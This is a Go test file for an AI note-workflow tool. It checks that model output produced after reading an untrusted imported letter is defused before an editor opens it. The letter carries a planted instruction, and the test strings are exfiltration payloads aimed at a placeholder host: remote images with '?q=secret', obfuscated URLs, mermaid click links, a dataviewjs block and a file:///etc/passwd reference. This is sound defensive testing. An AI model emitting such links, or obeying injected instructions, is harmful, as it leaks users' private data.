//go:build linux

package security

import (
	"fmt"
	"strings"
	"testing"
)

// What a step writes after it read foreign content neither loads nor runs anything in an editor.
func TestExit_isInert(t *testing.T) {
	t.Parallel()
	for name, step := range map[string]string{
		"an output":          "@input file: Imported/Letter/index.md\n@output file: Out\n",
		"replaced":           "@input file: Imported/Letter/index.md\n@output file: Out\n@write_mode replace\n",
		"appended":           "@input file: Imported/Letter/index.md\n@output file: Out\n@write_mode append\n",
		"under a heading":    "@input file: Imported/Letter/index.md\n@output file: Out\n@write_mode section (heading=Notes)\n",
		"by two steps":       "@input file: Imported/Letter/index.md\n@output variable: v\n\nSummarise.\n\n## Second\n@input variable: v (output=file: Out)\n@model none\n",
		"a tool, as granted": "@input file: Imported/Letter/index.md\n@tools write_file (untrusted=allow)\n@output file: Log\n",
		"a routed result":    "@tools read_file (output=file: Out)\n@output file: Log\n\nRead.\nCALL read_file {\"path\":\"Imported/Letter/index.md\"}\n",
		"a routed input":     "@input file: Imported/Letter/index.md (output=file: Out)\n@model none\n",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newScene(t)
			// Links that stood in the letter word for word may stay links; those that the model made may not.
			letter := strings.NewReplacer("/made", "/shown", "/auto", "/seen").Replace(s.hostileAnswer())
			s.write("Imported/Letter/index.md", order+"\n\n"+letter)
			s.model.attacks(func(tool string) []string {
				if tool != "write_file" {
					return nil
				}
				return []string{fmt.Sprintf(`{"path":"Out.md","content":%q}`, s.hostileAnswer())}
			})
			s.workflow("Read", "## Read\n"+step+"\nSummarise.\n")
			s.remember()
			out := s.run(anyCode, "run", "Read")
			s.inert("Out.md")
			s.unharmed("Out.md", "Log.md")
			if t.Failed() {
				t.Log(out)
			}
			if !strings.Contains(s.read("Out.md"), s.host) {
				t.Error("the addresses are gone: they should be defused, so that a person can see and undo it")
			}
		})
	}
}

// Properties, canvases, web pages: every kind of text that an editor opens.
func TestExit_otherKinds(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct{ output, answer, active string }{
		"a cover":            {"@output file: Out (format=json)\n@write_mode frontmatter", `{"cover": "http://HOST/a.png", "banner": "http://HOST/b.png"}`, "http://HOST/a.png"},
		"a canvas":           {"@output file: Board.canvas", `{"nodes":[{"id":"1","type":"link","url":"http://HOST/","x":0,"y":0,"width":9,"height":9}],"edges":[]}`, `"url":"http://HOST/"`},
		"a web page":         {"@output file: Page.html", `<html><body><img src="http://HOST/a.png"><script>1</script></body></html>`, `<img src="http://HOST`},
		"a list item":        {"@output file: Out", "- a\n  - ![x](http://HOST/a.png)\n", "![x](http"},
		"a quote":            {"@output file: Out", "> > ![x](http://HOST/a.png)\n", "![x](http"},
		"a table":            {"@output file: Out", "| a |\n|---|\n| ![x](http://HOST/a.png) |\n", "![x](http"},
		"a footnote":         {"@output file: Out", "a[^1]\n\n[^1]: ![x](http://HOST/a.png)\n", "![x](http"},
		"no protocol":        {"@output file: Out", "![x](//HOST/a.png)\n", "![x](//"},
		"an entity":          {"@output file: Out", "![x](&#104;ttp://HOST/a.png)\n", "![x](&#104;"},
		"two lines":          {"@output file: Out", "![x\ny](http://HOST/a.png)\n", "y](http"},
		"brackets":           {"@output file: Out", "![x](<http://HOST/a.png>)\n", "![x](<http"},
		"a style":            {"@output file: Out", "<div style=\"background:url(http://HOST/a.png)\">x</div>\n", "<div style=\"background:url(http"},
		"a file":             {"@output file: Out", "![x](file:///etc/passwd)\n", "![x](file:"},
		"a diagram":          {"@output file: Out", "```mermaid\ngraph LR; A-->B; click A \"http://HOST/\"\n```\n", "click A \"http://"},
		"a diagram, escaped": {"@output file: Out", "```mermaid\nflowchart LR\n A@{ img: \"\\x68ttps:\\x2f\\x2fHOST/8.png\" }\n```\n", "\n```mermaid\n"},
		"an inline query":    {"@output file: Out", "It is `\u00a0$= fetch(6)`.\n", "`\u00a0$="},
		"an unknown plugin":  {"@output file: Out", "```\ufeffdataviewjs\nx\n```\n", "```\ufeffdataviewjs"},
		"a JSON line":        {"@output file: Log.jsonl (format=json)", `{"a": "![](http://HOST/a.png)"}`, "![](http"},
		"a base table":       {"@output file: Out", "```base\nviews: []\n```\n\n![x](http://HOST/a.png)\n", "![x](http"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newScene(t)
			s.write("Imported/Letter/index.md", order)
			s.model.says(strings.ReplaceAll(tt.answer, "HOST", s.host))
			s.workflow("Read", "## Read\n@input file: Imported/Letter/index.md\n"+tt.output+"\n\nSummarise.\n")
			s.remember()
			out := s.run(anyCode, "run", "Read")
			s.model.wasFooled()
			active := strings.ReplaceAll(tt.active, "HOST", s.host)
			for file := range s.files() {
				if s.before[file] == "" && strings.Contains(s.read(file), active) {
					t.Errorf("%s still has %q:\n%s\n%s", file, active, s.read(file), out)
				}
			}
		})
	}
}

// What the owner writes and what stood in the letter itself is left alone: the exit is for what a model made.
func TestExit_keepsWhatIsHarmless(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	s.write("Imported/Letter/index.md", order+" See https://example.org/paper for more.\n")
	s.write("Out.md", "# Mine\n\n![](https://example.org/my.png)\n")
	s.model.says("See [the paper](https://example.org/paper), [[Diary]] and ![[Attachments/vaultflow.png]].")
	s.workflow("Read", "## Read\n@input file: Imported/Letter/index.md\n@output file: Out\n\nSummarise.\n")
	s.run(0, "run", "Read")
	for _, want := range []string{"![](https://example.org/my.png)", "[the paper](https://example.org/paper)", "[[Diary]]", "![[Attachments/vaultflow.png]]"} {
		if !strings.Contains(s.read("Out.md"), want) {
			t.Errorf("the note lacks %q:\n%s", want, s.read("Out.md"))
		}
	}
	if !strings.HasPrefix(s.read("Out.md"), "# Mine\n\n![](https://example.org/my.png)\n") {
		t.Error("the owner's own text was changed")
	}
}

// vaultflow does not ask for a picture whose address a model made, or a stranger wrote, with remote pictures switched on.
func TestExit_remotePictures(t *testing.T) {
	t.Parallel()
	for name, prepare := range map[string]func(s *scene) string{
		"in an import": func(s *scene) string {
			s.write("Imported/Letter/index.md", order+"\n\n![](http://"+s.host+"/a.png)\n")
			return "Imported/Letter/index.md"
		},
		"in an answer": func(s *scene) string {
			s.write("Imported/Letter/index.md", order)
			s.model.says("![](http://" + s.host + "/?q=secret.png)")
			s.quietly(func() {
				s.workflow("Digest", "## Digest\n@input file: Imported/Letter/index.md\n@output file: Digest\n\nSummarise.\n")
				s.run(anyCode, "run", "Digest")
			})
			return "Digest.md"
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if counted == nil {
				t.Skip("packets are not counted here")
			}
			s := newScene(t)
			s.settings("policy: {remote_images: {enabled: true}}\n")
			note := prepare(s)
			s.workflow("Look", "## Look\n@input file: "+note+"\n@output file: Out\n\nSummarise.\n")
			s.remember()
			out := s.run(anyCode, "run", "Look")
			s.unharmed("Out.md")
			if t.Failed() {
				t.Log(out)
			}
		})
	}
}
